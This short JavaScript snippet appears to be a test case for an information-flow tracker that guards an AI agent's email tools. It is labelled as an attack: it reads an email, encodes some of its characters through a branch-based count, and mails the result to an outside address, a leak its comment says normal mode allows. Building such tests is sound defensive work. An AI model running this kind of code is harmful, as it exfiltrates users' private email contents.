// attack: a short template of loop numbers (native text) built after an if on the email's characters counted in the same loop
// normal: leaks (implicit flow, allowed in NORMAL mode: the count ran in a branch)
const m = await getEmail('m1');
let hits = 0;
const parts = [];
for (let i = 0; i < 5; i++) {
  if (m.body.charCodeAt(i) > 100) hits = hits + 1;
  parts.push(`${i}-${hits}`);
}
await sendEmail({ to: ['omar@northwind.test'], subject: 'n', body: parts.join(',') });
